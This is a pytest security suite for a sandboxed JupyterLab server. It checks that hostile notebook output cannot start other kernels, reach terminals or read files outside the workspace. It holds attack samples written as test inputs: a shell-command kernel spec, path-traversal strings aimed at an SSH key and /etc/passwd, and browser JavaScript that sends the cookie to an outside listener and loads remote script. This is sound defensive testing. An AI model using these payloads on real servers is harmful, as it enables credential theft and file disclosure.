"""What a hostile output can do with its reader's rights, and what it cannot.

A script in a notebook's output runs in the page and has the reader's cookie. So everything here is
done with the rights of the logged-in user, over the very addresses that such a script would call;
one test lets it run in a real browser.
"""

from __future__ import annotations

import json
import re
import socket
import threading
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from tests.sandbox import notebooks
from tests.sandbox.browsing import WAIT_MS, chromium
from tests.sandbox.working import working

SECRET = "-----BEGIN OPENSSH PRIVATE KEY-----"


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    """A user's home folder with a secret, in which everything else lies."""
    base = tmp_path_factory.mktemp("attack")
    (base / ".ssh").mkdir()
    (base / ".ssh" / "id_ed25519").write_text(SECRET)
    (base / "notes.txt").write_text(SECRET)
    return base


@pytest.fixture(scope="module")
def workspace(base, bubblewrap):
    with working(base / "home", base / "root", environ={"HOME": str(base)}) as workspace:
        yield workspace


@pytest.fixture(scope="module")
def client(workspace):
    return workspace.client()


@pytest.fixture(scope="module")
def kernel(client):
    """The kernel of the notebook whose output is hostile."""
    client.save("s.ipynb", notebooks.content("1"))
    with client.kernel("s.ipynb") as kernel:
        yield kernel


# --- Other kernels -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["bash", "sandbox", "python3.11", "PYTHON3", "ir", "../python3", "", "conda-root-py"]
)
def test_no_other_kernel_starts_by_any_way(client, workspace, kernel, name):
    spec = Path(workspace.home / "workspace" / "data" / "kernels" / "bash")
    spec.mkdir(parents=True, exist_ok=True)
    (spec / "kernel.json").write_text(
        json.dumps({"argv": ["/bin/sh", "-c", "id > /tmp/owned"], "display_name": "b"})
    )
    if name:
        assert client.post("/api/kernels", {"name": name}).status_code == 404
        answer = client.open("x.ipynb", name=name)
        assert answer.status_code in (500, 501)
    assert client.get(f"/api/kernelspecs/{name or 'bash'}").status_code == 404
    session = f"/api/sessions/{kernel.session_id}"
    if name:
        changed = client.ask("PATCH", session, json={"kernel": {"name": name}})
        assert changed.status_code == 501
    assert client.get(session).json()["kernel"]["id"] == kernel.id
    assert [one["id"] for one in client.get("/api/kernels").json()] == [kernel.id]
    assert set(client.get("/api/kernelspecs").json()["kernelspecs"]) == {"python3"}


def test_the_usual_name_gives_the_isolated_kernel(client, base):
    made = client.post("/api/kernels", {"name": "python3", "path": "/", "kernel_id": "a-b-c-d-e"})
    assert made.status_code == 201
    answer = client.post(
        "/api/sessions",
        {"path": "c", "name": "c", "type": "console", "kernel": {"id": made.json()["id"]}},
    )
    assert answer.status_code == 201
    client.ask("DELETE", f"/api/sessions/{answer.json()['id']}")
    with client.kernel("c", kind="console") as kernel:
        tried = (
            f"import os, socket\nprint(os.path.exists({str(base)!r}), os.getuid() == 0)\n"
            "try: socket.create_connection(('127.0.0.1', 22), 1)\nexcept OSError: print('none')"
        )
        assert kernel.run(tried) == "False False\nnone\n"
        assert "SANDBOX_HOME" not in kernel.run("print(dict(os.environ))")


# --- Terminals, configuration, extensions, the end of the server -------------------------------


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/api/terminals"),
        ("GET", "/terminals/websocket/1"),
        ("PUT", "/api/config/jupyter_server_config"),
        ("PATCH", "/api/config/notebook"),
        ("POST", "/lab/api/extensions"),
        ("POST", "/lab/api/plugins"),
        ("POST", "/lab/api/build"),
        ("POST", "/api/shutdown"),
        ("GET", "/lab/api/listings/blocked_extensions"),
        ("GET", "/proxy/22/"),
        ("GET", "/nbextensions/../../etc/passwd"),
    ],
)
def test_there_is_no_such_address(client, workspace, method, path):
    assert client.ask(method, path, json={"name": "x"}).status_code in (404, 405)
    assert workspace.process.poll() is None


def test_settings_stay_settings(client, workspace):
    """They can be written, within their own folder and in their own form."""
    name = "@jupyterlab/apputils-extension:themes"
    raw = json.dumps({"raw": '{"theme": "JupyterLab Dark"}'})
    assert client.ask("PUT", f"/lab/api/settings/{name}", data=raw).status_code == 204
    for odd in ("../../config/x", "..%2f..%2fconfig%2fx", "@jupyterlab/../../x:y"):
        answer = client.ask("PUT", f"/lab/api/settings/{odd}", data=raw)
        assert answer.status_code >= 400
    told = {"data": {"layout-restorer:data": {}}, "metadata": {"id": "x"}}
    for odd in ("../../config/x", "..%2f..%2fx"):
        client.ask("PUT", f"/lab/api/workspaces/{odd}", json=told)
    places = workspace.home / "workspace"
    assert list((places / "config").iterdir()) == []
    assert {path.parent.name for path in places.rglob("*.jupyterlab-workspace")} <= {"layouts"}


# --- Files outside -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        *("../.ssh/id_ed25519", "..%2f.ssh%2fid_ed25519", "%2e%2e/notes.txt", "../notes.txt"),
        *("files/s/home/.ssh/id_ed25519", "files/s/notes.txt", "files/s/home/notes.txt"),
    ],
)
def test_no_file_outside_is_read_through_a_kernels_links(client, base, kernel, path):
    kernel.run(
        f"import os\nfor to, name in (({str(base)!r}, 'home'), "
        f"({str(base / 'notes.txt')!r}, 'notes.txt'), ('../../..', 'up')):\n"
        "    if not os.path.lexists(name): os.symlink(to, name)"
    )
    for address in ("/api/contents/", "/files/", "/nbconvert/html/", "/sandbox/api/parameters"):
        where = "?path=" if address.endswith("parameters") else ""
        answer = client.get(f"{address}{where}{path}")
        assert answer.status_code >= 400
        assert SECRET not in answer.text
    copied = client.post("/api/contents/", {"copy_from": path})
    assert SECRET not in copied.text
    told = {"path": path, "parameters": {}, "team": "", "why": ""}
    assert client.post("/sandbox/api/runs", told).status_code == 422
    assert (base / "notes.txt").read_text() == SECRET
    assert SECRET not in "".join(
        one.read_text(errors="replace")
        for one in (base / "root").rglob("*")
        if one.is_file() and not one.is_symlink()
    )


@pytest.mark.parametrize("kind", ["pdf", "latex", "webpdf", "qtpdf", "rst", "asciidoc"])
def test_no_export_goes_through_programs_that_read_files(client, kind):
    client.save("s.ipynb", notebooks.content("1"))
    assert kind not in client.get("/api/nbconvert").json()
    assert client.get(f"/nbconvert/{kind}/s.ipynb").status_code >= 400


def test_an_export_carries_no_rights(client):
    content = notebooks.content("1")
    content["cells"].append(
        notebooks.cell("<script>alert(1)</script> ![x](../notes.txt)", name="m", kind="markdown")
    )
    client.save("s.ipynb", content)
    answer = client.get("/nbconvert/html/s.ipynb")
    assert answer.ok
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert SECRET not in answer.text


# --- In a real browser -------------------------------------------------------------------------

INSIDE = r"(https?|ws)://127\.0\.0\.1:\d+/|data:|blob:"
TRIES = """async (outside) => {
  const tried = {};
  const attempt = async (name, what) => {
    try { tried[name] = await what(); } catch (error) { tried[name] = "refused"; }
  };
  await attempt("fetch", async () => (await fetch(outside, {mode: "no-cors"})).type);
  await attempt("beacon", async () => new Promise((done) => {
    const image = new Image();
    image.onload = () => done("loaded");
    image.onerror = () => done("refused");
    image.src = outside + "?" + document.cookie;
  }));
  await attempt("script", async () => new Promise((done) => {
    const script = document.createElement("script");
    script.onload = () => done("loaded");
    script.onerror = () => done("refused");
    script.src = outside;
    document.body.append(script);
  }));
  await attempt("socket", async () => new Promise((done) => {
    const socket = new WebSocket(outside.replace("http", "ws"));
    socket.onopen = () => done("open");
    socket.onerror = () => done("refused");
  }));
  const token = document.cookie.match(/_xsrf=([^;]+)/)[1];
  const call = (path, body) => fetch(path, {
    method: "POST", headers: {"X-XSRFToken": token}, body: JSON.stringify(body),
  });
  await attempt("kernel", async () => (await call("/api/kernels", {name: "bash"})).status);
  await attempt("terminal", async () => (await call("/api/terminals", {})).status);
  await attempt("file", async () => (await fetch("/files/..%2fnotes.txt")).status);
  await attempt("own", async () => (await fetch("/api/contents")).status);
  return tried;
}"""


@pytest.mark.slow
def test_an_output_script_sends_nothing_away_and_reaches_nothing_else(workspace):
    came, asked = [], []
    with chromium() as browser, listening(came) as away:
        page = browser.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.goto(workspace.told["url"])
        page.wait_for_selector("#jp-main-dock-panel", timeout=WAIT_MS)
        tried = page.evaluate(TRIES, away)
    assert tried == {
        **dict.fromkeys(("fetch", "beacon", "script", "socket"), "refused"),
        **dict.fromkeys(("kernel", "terminal", "file"), 404),
        "own": 200,
    }
    assert came == []
    assert [url for url in asked if not re.match(INSIDE, url)] == []


@contextmanager
def listening(came):
    """Listen as another site would, and note who comes."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def wait():
            with suppress(OSError):
                while True:
                    came.append(server.accept()[1])

        threading.Thread(target=wait, daemon=True).start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}/away"
        server.shutdown(socket.SHUT_RDWR)
